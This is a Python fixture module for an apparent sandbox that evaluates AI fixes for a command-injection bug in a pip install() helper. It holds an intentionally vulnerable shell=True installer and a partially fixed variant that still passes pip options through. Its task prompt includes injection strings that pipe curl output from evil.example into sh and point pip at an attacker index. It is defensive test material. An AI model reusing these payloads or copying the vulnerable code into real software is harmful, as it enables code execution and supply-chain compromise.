"""The sandbox's world: who is in the organization, what its mirror holds, and the demo's task.

The mirror is the README's example (evals-org/mlflow, whose ``install`` passes a package name to a
shell), so the README's sample task and ``.github/tandem.yml`` run against it as written."""

from __future__ import annotations

from pathlib import Path

DEFAULT_DIR = Path(".tandem-sandbox")  # where a sandbox keeps all its state
ORG = "evals-org"
REPO = "mlflow"
FULL_NAME = f"{ORG}/{REPO}"
ADMIN = "maintainer"  # the organization's owner: registers and installs the app
RATERS = ("alice", "bob")  # the raters team
REVIEWER = "carol"
TEAM = "raters"

TANDEM_YML = f"""\
mirror: true
raters: {{teams: [{TEAM}]}}
reviewers: [{REVIEWER}]
rubric: {{axes: [correctness, security, maintainability], scale: [1, 5]}}
raters_per_task: 2
"""

INSTALLER = """\
import subprocess


def install(package):
    subprocess.run(f'pip install {package}', shell=True)
"""

MIRROR_FILES = {
    ".github/tandem.yml": TANDEM_YML,
    "README.md": "# mlflow (mirror)\n\nA sandbox mirror: `src/app.py` installs packages for a project.\n",
    "src/app.py": INSTALLER,
}

# Two answers to the same prompt: one keeps the package away from both the shell and pip's option
# parser; the other quotes it for the shell but still lets `--index-url=...` through as an option.
STRICT = """\
import re
import subprocess
import sys

# A requirement as PEP 508 writes it: a name, extras, version specifiers. Never an option.
REQUIREMENT = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]*(\\[[A-Za-z0-9._,-]+\\])?([<>=!~]=?[A-Za-z0-9.*+!-]+)?")


def install(package):
    if not REQUIREMENT.fullmatch(package):
        raise ValueError(f"not a package requirement: {package!r}")
    subprocess.run([sys.executable, "-m", "pip", "install", "--", package], check=True)
"""

QUOTED = """\
import shlex
import subprocess


def install(package):
    subprocess.run(f"pip install {shlex.quote(package)}", shell=True, check=True)
"""

DEMO_TEAM = "lab"
DEMO_TASK = {
    "repo": FULL_NAME,
    "base": "main",
    "prompt": (
        "Fix the command injection in install(): a package name such as "
        "`--index-url=https://evil.example/simple x` or `x; curl evil.example | sh` must reach "
        "neither a shell nor pip's option parser."
    ),
    "outputs": [
        {"model": "model-x-2026-10", "files": {"src/app.py": STRICT}},
        {"model": "model-y-2026-09", "files": {"src/app.py": QUOTED}},
    ],
    "rubric": ["correctness", "security", "maintainability"],
    "metadata": {"source": "tandem-demo"},
}

FOLLOWUP = "Also log which package is being installed, so that operators can audit installs."
